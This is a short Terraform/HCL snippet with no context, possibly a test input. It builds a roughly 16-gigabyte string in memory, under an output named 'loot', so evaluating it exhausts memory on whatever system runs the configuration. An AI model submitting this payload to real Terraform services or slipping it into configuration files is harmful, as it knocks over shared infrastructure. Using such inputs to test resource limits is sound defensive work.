locals {
  megabyte = format("%01000000d", 1)
  gigabyte = join("", [for _ in range(1000) : local.megabyte])
}

output "loot" {
  value = length(join("", [for _ in range(16) : local.gigabyte]))
}
